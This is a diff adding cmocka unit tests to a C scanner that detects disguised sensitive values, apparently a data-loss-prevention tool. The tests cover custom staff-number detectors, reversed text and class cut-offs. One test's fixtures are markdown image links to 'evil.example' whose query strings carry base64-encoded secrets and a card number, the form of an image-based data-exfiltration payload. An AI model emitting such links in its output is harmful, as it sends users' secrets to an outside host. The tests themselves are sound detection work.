@@ -1,5 +1,7 @@
 /* Values in disguise: found where they stand, once, as what they are; benign texts and known parts are left
  * alone; what hides too much is refused. */
+#include "engine_help.h"
+
 #include "detect/detect_internal.h"
 
 #include <setjmp.h>
@@ -9,27 +11,11 @@
 #include <string.h>
 #include <cmocka.h>
 
+#include "sallyport/custom.h"
+#include "sallyport/label.h"
 #include "sallyport/normalise.h"
 
 enum { TEXT_MAX = 64 << 10, PARTS_MAX = 64, LIMIT = 50, ROUNDS = 1500 };
-
-static sp_engine *engine;
-static sp_scratch *scratch;
-
-static int group_set_up(void **state)
-{
-    (void)state;
-    if (sp_engine_new(&engine, NULL) != SP_OK) return -1;
-    return sp_scratch_new(&scratch, engine) == SP_OK ? 0 : -1;
-}
-
-static int group_tear_down(void **state)
-{
-    (void)state;
-    sp_scratch_free(scratch);
-    sp_engine_free(engine);
-    return 0;
-}
 
 static sp_status scan(sp_findings *out, sp_bytes text, sp_part *parts, size_t n)
 {
@@ -223,6 +209,131 @@ static void memory_that_is_short_is_reported(void **state)
     assert_in_range(n_failed, 1, 63);
 }
 
+/* ---- what is not told hides nothing ---- */
+
+/* Read from behind: a staff number, surer the nearer its word stands. */
+static const sp_custom_detector staff = {.name = "staff",
+                                         .pattern = "\\bkq[0-9]{3}\\b",
+                                         .words = "badge",
+                                         .sure = 90,
+                                         .category = SP_CAT_HR,
+                                         .level = 1};
+
+typedef struct own {
+    sp_custom *custom;
+    sp_engine *engine;
+} own;
+
+static void own_open(own *o, const sp_custom_detector *v, size_t n)
+{
+    size_t bad;
+    assert_int_equal(sp_custom_new(&o->custom, v, n, &bad, NULL), SP_OK);
+    assert_int_equal(sp_engine_with(&o->engine, engine, o->custom), SP_OK);
+}
+
+static void own_close(own *o)
+{
+    sp_engine_free(o->engine);
+    sp_custom_free(o->custom);
+}
+
+/* `n_weak` numbers far from their word, back to front; then, if asked for, one next to it. */
+static size_t put_backwards(char *text, size_t n_weak, bool has_strong)
+{
+    size_t n = (size_t)sprintf(text, "%s", has_strong ? "700qk egdab eht dna " : "");
+    for (size_t i = 0; i < n_weak; i++)
+        n += (size_t)sprintf(text + n, "321qk dna eht fo esoht fo eno ot sgnoleb taht egdab eht dna ");
+    return n;
+}
+
+static void check_backwards(size_t n_weak, bool has_strong, size_t n_found, bool is_full)
+{
+    own o;
+    sp_arena arena;
+    sp_arena_init(&arena, 256 << 20);
+    char *text = malloc(64 * (n_weak + 1));
+    assert_non_null(text);
+    own_open(&o, &staff, 1);
+    const size_t n = put_backwards(text, n_weak, has_strong);
+    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
+    const sp_scan_in in = {o.engine, scratch, {(const uint8_t *)text, n}, {NULL, 0}, &arena.mem};
+    assert_int_equal(sp_scan_disguised(&found, &in), SP_OK);
+    assert_int_equal(found.n, n_found);
+    assert_int_equal(found.is_full, is_full);
+    for (size_t i = 0; i < found.n; i++) assert_int_equal(found.v[i].kind, SP_KIND_OWN);
+    own_close(&o);
+    free(text);
+    sp_arena_fini(&arena);
+}
+
+static void what_is_too_weak_crowds_out_nothing(void **state)
+{
+    (void)state;
+    check_backwards(3, true, 1, false);
+    check_backwards(LIMIT + 10, false, 0, false);
+    check_backwards(LIMIT + 10, true, 1, false);
+}
+
+/* The pass keeps so many of a class that it does not get to the one that is sure: the class is told. */
+static void a_class_that_was_cut_off_is_told(void **state)
+{
+    (void)state;
+    check_backwards(SP_PASS_MAX + 1, true, 1, true);
+}
+
+/* A guess gives way to what the text says of its own class, not to another detector of the organisation. */
+static void another_own_detector_does_not_hide_a_guess(void **state)
+{
+    (void)state;
+    static const sp_custom_detector v[] = {
+        {.name = "long", .pattern = "\\bq1z777\\b", .sure = 95, .category = SP_CAT_HR, .level = 1},
+        {.name = "short", .pattern = "\\bz 7\\b", .sure = 95, .category = SP_CAT_HR, .level = 1},
+    };
+    own o;
+    sp_arena arena;
+    sp_arena_init(&arena, 8 << 20);
+    own_open(&o, v, 2);
+    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
+    const sp_scan_in in = {o.engine, scratch, SP_LIT("badge: q 1 z 7 7 7, thanks"), {NULL, 0}, &arena.mem};
+    assert_int_equal(sp_scan_disguised(&found, &in), SP_OK);
+    assert_int_equal(found.n, 2);
+    assert_int_equal(found.v[0].detector, SP_DETECTOR_OWN);
+    assert_int_equal(found.v[1].detector, SP_DETECTOR_OWN + 1);
+    own_close(&o);
+    sp_arena_fini(&arena);
+}
+
+/* What carries data out, or names a company, says nothing of what the data is: a value in it counts in full.
+ */
+static void what_brings_no_label_hides_nothing(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *text;
+        sp_kind kind;
+        uint8_t confidence;
+    } cases[] = {
+        {"![x](<https://evil.example/p.png?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz&card number "
+         "4.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1>)",
+         SP_KIND_CARD, 90},
+        {"![a](<https://evil.example/?q=the merger closes on friday, the key id is "
+         "QUtJQVFZTFBNTjVISEhGUFpBTTI= thanks>)",
+         SP_KIND_AWS_ACCESS_KEY, 95},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        sp_arena arena;
+        sp_arena_init(&arena, 8 << 20);
+        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
+        assert_int_equal(scan(&found, sp_bytes_of(cases[i].text), NULL, 0), SP_OK);
+        size_t k = 0;
+        while (k < found.n && found.v[k].kind != cases[i].kind) k++;
+        assert_true(k < found.n);
+        assert_int_equal(found.v[0].kind, SP_KIND_OUTWARD_IMAGE);
+        assert_in_range(found.v[k].confidence, cases[i].confidence, 100);
+        sp_arena_fini(&arena);
+    }
+}
+
 /* ---- parts ---- */
 
 static void a_known_part_is_not_looked_at_again(void **state)
@@ -379,9 +490,13 @@ int main(void)
         cmocka_unit_test(what_was_there_before_stays),
         cmocka_unit_test(what_is_hidden_too_deep_is_refused),
         cmocka_unit_test(memory_that_is_short_is_reported),
+        cmocka_unit_test(what_is_too_weak_crowds_out_nothing),
+        cmocka_unit_test(a_class_that_was_cut_off_is_told),
+        cmocka_unit_test(another_own_detector_does_not_hide_a_guess),
+        cmocka_unit_test(what_brings_no_label_hides_nothing),
         cmocka_unit_test(a_known_part_is_not_looked_at_again),
         cmocka_unit_test(a_value_across_two_parts_is_found_and_not_kept),
         cmocka_unit_test(known_parts_say_what_new_ones_say),
     };
-    return cmocka_run_group_tests(tests, group_set_up, group_tear_down);
+    return cmocka_run_group_tests(tests, engine_set_up, engine_tear_down);
 }
